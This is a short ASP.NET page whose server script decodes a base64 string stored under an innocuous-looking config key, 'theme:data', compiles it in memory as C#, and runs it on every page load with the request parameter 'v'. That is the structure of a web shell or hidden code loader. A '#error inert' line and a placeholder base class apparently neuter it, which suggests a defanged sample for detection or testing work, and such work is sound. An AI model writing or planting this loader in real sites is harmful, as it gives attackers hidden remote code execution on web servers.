<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
object Build(string key)
{
    var text = Encoding.UTF8.GetString(Convert.FromBase64String(System.Web.Configuration.WebConfigurationManager.AppSettings[key]));
    var p = System.CodeDom.Compiler.CodeDomProvider.CreateProvider("c" + "#");
    var o = new System.CodeDom.Compiler.CompilerParameters(new[] { "System.dll", "System.Web.dll" }) { GenerateInMemory = true };
    return p.CompileAssemblyFromSource(o, text).CompiledAssembly.CreateInstance("Q");
}
void Page_Load(object a, EventArgs b)
{
    dynamic q = Build("theme:data");
    q.Go(Request["v"]);
}
</script>
